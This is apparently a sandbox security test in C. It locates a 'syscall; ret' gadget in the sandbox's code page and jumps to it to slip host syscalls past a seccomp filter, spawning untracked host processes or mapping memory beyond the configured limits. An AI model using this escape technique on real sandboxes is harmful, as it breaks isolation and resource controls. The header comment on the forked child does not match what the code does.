/* codepage: the seccomp platform lets through the host syscalls made from
 * its code page, which is mapped (readable and executable) in every stub,
 * so application code can find a "syscall; ret" sequence in it and jump
 * there: the host kernel then runs the call (a return-oriented escape from
 * an instruction-pointer-based seccomp filter). Only the stub's own
 * syscalls pass even then, but clone is one of them: a fork-like clone
 * makes a host process the sentry never sees, outside --pids-limit, that
 * outlives the sandbox; an anonymous mmap is host memory outside --memory.
 *   codepage fork    clone(SIGCHLD) through the gadget; the child spins
 *                    forever, pid 1 exits (the test looks for the child)
 *   codepage memory  mmap+touch 512 MiB of anonymous host memory through
 *                    the gadget under --memory=256M
 * Prints "NOGADGET" when no code page is found (ptrace platform), "ESCAPED
 * ..." when a host call went through.
 */
#include <setjmp.h>
#include <signal.h>
#include <sys/wait.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static sigjmp_buf probe;
static void on_segv(int s) { (void)s; siglongjmp(probe, 1); }

/* readable returns whether the byte at p can be read. */
static int readable(volatile const unsigned char *p)
{
	if (sigsetjmp(probe, 1))
		return 0;
	(void)*p;
	return 1;
}

static long gadget_call(void *g, long nr, long a, long b, long c, long d, long e, long f)
{
	long ret;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	__asm__ volatile("call *%[g]"
			 : "=a"(ret)
			 : [g] "r"(g), "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return ret;
}

/* find_gadget scans the top of the address space for a readable page whose
 * quad at 0x800 is the top of user space (the code page's header) and
 * returns the address of "syscall; ret" (0f 05 c3) in it. */
static void *find_gadget(void)
{
	signal(SIGSEGV, on_segv);
	signal(SIGBUS, on_segv);
	for (uintptr_t base = 0x7ffffffe0000; base > 0x7ffff0000000; base -= 0x10000) {
		unsigned char *p = (unsigned char *)base;
		if (!readable(p) || !readable(p + 0x800))
			continue;
		if (*(uint64_t *)(p + 0x800) != 0x7ffffffff000)
			continue;
		for (int i = 0; i < 0x800 - 2; i++)
			if (p[i] == 0x0f && p[i + 1] == 0x05 && p[i + 2] == 0xc3)
				return p + i;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IONBF, 0);
	void *g = find_gadget();
	signal(SIGSEGV, SIG_DFL);
	if (!g) {
		printf("NOGADGET\n");
		return 0;
	}
	printf("GADGET %p\n", g);
	if (!strcmp(mode, "fork")) {
		long pid = gadget_call(g, 56 /* clone */, SIGCHLD, 0, 0, 0, 0, 0);
		if (pid == 0)
			_exit(42);
		if (pid > 0) {
			/* A child the sandbox's kernel knows (the call was trapped
			 * and served as an ordinary fork) can be waited for; a
			 * host process made behind its back cannot. */
			int st;
			if (waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 42)
				printf("BLOCKED clone: served by the sandbox as a fork (pid %ld)\n", pid);
			else
				printf("ESCAPED clone: host pid %ld\n", pid);
		} else {
			printf("BLOCKED clone: %ld\n", pid);
		}
		return 0;
	}
	if (!strcmp(mode, "memory")) {
		long n = 512L << 20;
		long p = gadget_call(g, 9 /* mmap */, 0, n, 3 /* RW */, 0x22 /* PRIVATE|ANON */, -1, 0);
		if (p < 0 && p > -4096) {
			printf("BLOCKED mmap: %ld\n", p);
			return 0;
		}
		memset((void *)p, 0x5a, n);
		printf("ESCAPED mmap: touched 512 MiB of host memory outside --memory\n");
		return 0;
	}
	return 2;
}
